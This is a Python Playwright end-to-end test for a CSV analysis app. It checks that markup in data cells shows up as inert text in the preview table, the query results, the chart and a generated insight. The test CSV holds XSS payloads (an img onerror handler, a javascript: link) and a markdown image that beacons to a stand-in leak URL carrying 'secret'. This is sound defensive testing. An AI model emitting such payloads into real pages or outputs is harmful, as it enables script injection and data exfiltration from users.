"""Text from the data reaches the page as text: no tag, link, image or script from a cell is ever live."""

from __future__ import annotations

import re

from playwright.sync_api import Page, expect

from tests.e2e.conftest import register_in_browser
from tests.e2e.flows import ask, new_email

LEAK_URL = "http://127.0.0.1:9/leak?q=secret"
EVIL_CSV = (
    "label,amount\n"
    f'"![x]({LEAK_URL})",30\n'
    '"<img src=x onerror=""window.__pwned=1"">",20\n'
    '"[click](javascript:window.__pwned=2)",10\n'
    "plain,5\n"
)


def test_cells_with_markup_render_inert_in_table_chart_and_insight(page: Page, tmp_path):
    requests: list[str] = []
    page.on("request", lambda request: requests.append(request.url))
    evil = tmp_path / "evil.csv"
    evil.write_text(EVIL_CSV)
    register_in_browser(page, "Careful User", new_email("careful"))
    page.goto("/data/upload")
    page.get_by_label("Choose CSV files").set_input_files(evil)
    page.get_by_role("link", name="Open evil.csv").click(timeout=60_000)
    page.wait_for_url(re.compile(r".*/data/\d+$"))
    expect(page.get_by_role("table", name="Preview rows")).to_contain_text('<img src=x onerror="window.__pwned=1">')

    page.get_by_role("link", name="Ask about this data").click()
    ask(page, "What is the total amount for each label?")
    results = page.get_by_role("table", name="Query results")
    expect(results).to_contain_text(f"![x]({LEAK_URL})")
    expect(results).to_contain_text("[click](javascript:window.__pwned=2)")

    insight = page.locator("#insight-text")
    expect(insight).to_contain_text("<img src=x", timeout=60_000)
    expect(insight).to_contain_text(LEAK_URL)
    expect(page.locator("#chart-viewer .js-plotly-plot")).to_be_visible()
    for area in ("#insight-text", "#chart-viewer", "main table"):
        assert page.locator(f"{area} img, {area} a[href], {area} script, {area} iframe").count() == 0, area
    assert page.evaluate("window.__pwned") is None
    assert not [url for url in requests if url.startswith("http://127.0.0.1:9/")]
